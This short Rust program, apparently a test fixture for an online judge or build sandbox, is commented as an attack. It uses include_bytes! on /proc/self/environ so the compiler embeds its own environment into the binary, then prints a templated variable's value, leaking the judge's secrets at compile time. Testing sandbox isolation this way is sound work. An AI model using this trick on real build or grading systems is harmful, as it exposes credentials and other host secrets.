// attack: rustc embeds its own environment (the judge's, when the compiler
// runs with it) and the program prints the value of @NAME@.
fn main() {
    let env = include_bytes!("/proc/self/environ");
    let want = b"@NAME@=";
    for var in env.split(|b| *b == 0) {
        if var.starts_with(want) {
            println!("{}", String::from_utf8_lossy(&var[want.len()..]));
        }
    }
}
